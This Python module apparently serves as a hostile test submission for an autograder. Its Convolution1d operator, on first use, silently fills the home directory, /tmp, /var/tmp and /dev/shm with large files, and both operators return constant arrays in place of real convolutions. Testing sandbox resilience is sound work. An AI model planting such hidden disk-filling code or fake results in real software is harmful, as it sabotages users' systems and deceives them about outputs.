"""Writes big files everywhere it may."""
import os

import numpy as np

BLOCK = b"\0" * (1 << 20)
PREFIX = "autograder-hostile-fill"


def _write(path, megabytes):
    written = 0
    try:
        with open(path, "wb") as f:
            for _ in range(megabytes):
                f.write(BLOCK)
                f.flush()
                written += len(BLOCK)
    except OSError:
        pass
    return written


def _fill():
    print("HOME file stopped at", _write(os.path.expanduser("~/big"), 1024))
    for folder, count in ((".", 2), ("/tmp", 2), ("/var/tmp", 1), ("/dev/shm", 1)):
        for i in range(count):
            path = os.path.join(folder, f"{PREFIX}-{os.getpid()}-{i}")
            print("wrote", path, _write(path, 64))


class Convolution1d:
    def __init__(self, filt):
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, x):
        done = os.path.expanduser("~/.done")
        if not os.path.exists(done):
            open(done, "w").close()
            _fill()
        return np.zeros(x.size - self.filt.size + 1)


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, y):
        return np.ones(y.size + self.filt.size - 1)
